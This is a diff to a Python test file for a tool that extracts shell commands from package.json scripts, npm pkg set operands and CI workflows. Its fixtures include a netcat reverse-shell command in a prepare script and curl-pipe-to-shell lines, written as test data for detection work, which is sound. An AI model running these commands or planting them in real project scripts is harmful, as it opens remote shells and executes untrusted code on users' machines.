@@ -25,6 +25,12 @@ def test_package_scripts_even_in_a_fragment() -> None:
     assert commands_in("package.json", fragment) == ["curl -s https://x.example/p.sh | sh"]
 
 
+def test_package_scripts_set_by_npm_pkg_set() -> None:
+    # `npm pkg set scripts.NAME=VALUE ...`: the catalogue hands the operands as the content.
+    pairs = "scripts.prepare=nc -e /bin/sh 10.0.0.5 4444 scripts.test=vitest run"
+    assert commands_in("package.json", pairs) == ["nc -e /bin/sh 10.0.0.5 4444", "vitest run"]
+
+
 def test_workflows_and_makefiles() -> None:
     workflow = "jobs:\n  a:\n    steps:\n      - run: make test\n      - run: |\n          echo a\n          curl x | sh\n"
     assert commands_in(".github/workflows/ci.yml", workflow) == ["make test", "echo a\ncurl x | sh"]
